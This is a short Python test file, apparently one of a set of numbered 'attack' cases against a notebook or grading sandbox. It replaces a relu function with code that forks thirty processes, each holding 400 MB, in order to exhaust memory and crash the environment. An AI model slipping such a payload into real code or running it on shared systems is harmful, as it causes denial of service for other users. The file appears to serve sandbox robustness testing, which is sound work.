"""12 GB of memory, 400 MB each in thirty processes."""

# /// attack
# module = "02"
# status = ["crashed"]
# loses = ["relu", "module"]
# cell_seconds = 8
# ///

# %% replace relu
import os, time
@Op
def relu(x):
    for _ in range(30):
        if os.fork() == 0:
            kept = b"x" * (400 << 20)
            time.sleep(20)
            os._exit(0)
    time.sleep(20)
    return x
